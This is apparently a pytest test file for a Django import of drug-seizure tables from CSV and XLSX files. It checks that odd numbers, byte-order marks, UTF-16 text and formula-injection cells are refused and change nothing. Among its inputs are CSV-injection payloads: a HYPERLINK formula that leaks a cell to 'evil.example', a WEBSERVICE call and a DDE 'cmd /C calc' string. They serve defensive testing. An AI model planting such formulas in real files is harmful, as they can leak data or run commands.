"""Hostile and odd files: the import asks or refuses with a clear message, and changes nothing.

Odd number formats, formulas such as ``=HYPERLINK(…)`` in values, headers and note lines,
byte-order marks, UTF-16 text, cells far larger than a seizure table holds: each is read
as written, asked about or refused by name; no value, measure or table note is written
before the secretariat confirms a preview without problems.
"""

import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from seizures import import_plan
from seizures.models import Country, ImportBatch, Measure, SeizureValue
from seizures.reading import ImportRefused
from seizures.tests.factories import make_table

pytestmark = pytest.mark.django_db


@pytest.fixture
def table():
    country, (heroin, opium) = make_table([2015, 2016])
    return country, heroin, opium


def _snapshot(country):
    country.refresh_from_db()
    values = sorted(SeizureValue.objects.filter(country=country).values_list("measure_id", "year", "value", "footnote"))
    return values, Measure.objects.count(), (country.table_title, country.source, country.footnotes)


def _xlsx(rows):
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _plan(content, name, user, country):
    batch = import_plan.start_import(SimpleUploadedFile(name, content), user, country=country)
    return batch, import_plan.plan(batch)


def _confirm_fails(batch, plan, user):
    with pytest.raises(import_plan.NotApplied):
        import_plan.apply(batch.pk, {"plan_version": plan.version, "use-source": "1", "use-footnotes": "1"}, user)


@pytest.mark.parametrize(
    "text",
    ["1e5", "0x10", "12%", "½", "１２３", "1_000", "NaN", "Infinity", "12 34", "1,2,3", "--5", "-7", "+-1", "1.2.3,4"],
)
def test_an_odd_number_is_refused_by_its_cell_and_nothing_changes(table, secretariat, text):
    country, heroin, _opium = table
    before = _snapshot(country)
    content = f'Year,{heroin.label}\n2017,"{text}"\n'.encode()
    batch, plan = _plan(content, "odd.csv", secretariat, country)
    assert [(p["row"], p["col"]) for p in plan.problems] == [(2, "B")], plan.problems
    assert text.strip() in plan.problems[0]["message"] or "negative" in plan.problems[0]["message"]
    _confirm_fails(batch, plan, secretariat)
    assert _snapshot(country) == before


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?leak="&A1,"250")', "=1+1", '=WEBSERVICE("http://evil.example")'],
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_in_a_value_is_reported_not_calculated_and_nothing_changes(table, secretariat, cell, fmt):
    country, heroin, _opium = table
    before = _snapshot(country)
    if fmt == "csv":
        content = ("Year," + heroin.label + "\n2017," + '"' + cell.replace('"', '""') + '"\n').encode()
    else:
        content = _xlsx([["Year", heroin.label], [2017, cell]])
    batch, plan = _plan(content, f"formula.{fmt}", secretariat, country)
    (problem,) = plan.problems
    assert problem["col"] == "B" and "formula" in problem["message"]
    _confirm_fails(batch, plan, secretariat)
    assert _snapshot(country) == before


@pytest.mark.parametrize(
    "header", ['=HYPERLINK("http://evil.example","Heroin (kg)")', "+cmd|' /C calc'!A0", "@SUM(A1)"]
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_as_a_header_is_refused_and_never_offered_as_a_new_measure(table, secretariat, fmt, header):
    country, heroin, _opium = table
    before = _snapshot(country)
    if fmt == "csv":
        content = ('Year,"' + header.replace('"', '""') + '"\n2017,5\n').encode()
    else:
        content = _xlsx([["Year", header], [2017, 5]])
    batch, plan = _plan(content, f"header.{fmt}", secretariat, country)
    assert plan.problems and not plan.ok
    assert all(not p.get("create") for p in plan.problems)  # no “create this measure” link for a formula
    assert any("formula" in p["message"] for p in plan.problems)
    assert not any(q["name"].startswith("measure:=") for q in plan.questions)
    _confirm_fails(batch, plan, secretariat)
    assert _snapshot(country) == before


def test_a_formula_in_a_note_line_is_not_offered_as_the_tables_source(table, secretariat):
    country, heroin, _opium = table
    content = f'Year,{heroin.label}\n2017,5\n\n"=HYPERLINK(""http://evil.example"",""Source: LCDC"")"\n'.encode()
    batch, plan = _plan(content, "note.csv", secretariat, country)
    assert not batch.summary["source"].startswith("=") and not batch.summary["footnotes"].startswith("=")
    assert any("formula" in text for text in batch.summary["skipped"])


@pytest.mark.parametrize(
    "content",
    [
        "\ufeffYear,{label}\n2017,5\n".encode(),  # Excel's “CSV UTF-8”
        "\ufeff\ufeffYear,{label}\n2017,5\n".encode(),  # a BOM written twice by a second conversion
        "\ufeffYear;{label}\r\n2017;5\r\n".encode(),
        "Year,\ufeff{label}\n2017,5\n".encode(),  # a BOM pasted in with a header
    ],
)
def test_byte_order_marks_are_not_part_of_the_text(table, secretariat, content):
    country, heroin, _opium = table
    content = content.replace(b"{label}", heroin.label.encode())
    _batch, plan = _plan(content, "bom.csv", secretariat, country)
    assert plan.ok and [item["value"] for item in plan.additions] == [Decimal(5)]


def test_a_utf16_file_as_excel_saves_unicode_text_is_read(table, secretariat):
    country, heroin, _opium = table
    content = f"Year\t{heroin.label}\r\n2017\t5\r\n".encode("utf-16")
    _batch, plan = _plan(content, "unicode.txt", secretariat, country)
    assert plan.ok and [item["value"] for item in plan.additions] == [Decimal(5)]


def test_bytes_that_are_no_text_are_refused_with_what_to_do(table, secretariat):
    country, _heroin, _opium = table
    for content in (b"\xff\xfe\x00\xd8", "Year,Heroin (kg)\n2017,5\n".encode("cp1252") + b"\x96\xff"):
        with pytest.raises(ImportRefused, match="CSV"):
            _plan(content, "bad.csv", secretariat, country)
    assert not ImportBatch.objects.exists()


def test_a_huge_cell_is_refused_with_a_clear_message(table, secretariat):
    country, heroin, _opium = table
    content = f'Year,{heroin.label}\n2017,"{"9" * 200_000}"\n'.encode()
    with pytest.raises(ImportRefused) as refusal:
        _plan(content, "huge.csv", secretariat, country)
    assert "field larger" not in str(refusal.value) and "cell" in str(refusal.value)
    assert not ImportBatch.objects.exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_long_figure_and_a_long_header_are_named_shortly_and_change_nothing(table, secretariat, fmt):
    country, heroin, _opium = table
    before = _snapshot(country)
    rows = [["Year", heroin.label, "Opium " * 5000], [2017, "1" * 5000, 3]]
    content = "\n".join(",".join(str(c) for c in row) for row in rows).encode() if fmt == "csv" else _xlsx(rows)
    batch, plan = _plan(content, f"long.{fmt}", secretariat, country)
    assert not plan.ok
    assert all(len(p["message"]) < 300 for p in plan.problems)
    assert all(len(q["label"]) < 300 for q in plan.questions)
    _confirm_fails(batch, plan, secretariat)
    assert _snapshot(country) == before


def test_the_upload_page_shows_a_refusal_next_to_the_file_and_saves_nothing(client_for, secretariat, table):
    country, heroin, _opium = table
    content = f'Year,{heroin.label}\n2017,"{"9" * 200_000}"\n'.encode()
    response = client_for(secretariat).post(
        reverse("seizures:import"),
        {"file": SimpleUploadedFile("huge.csv", content), "country": country.slug, "number_format": "ask"},
    )
    assert response.status_code == 200 and "Line 2" in " ".join(response.context["form"].errors["file"])
    assert not ImportBatch.objects.exists() and Country.objects.count() == 1
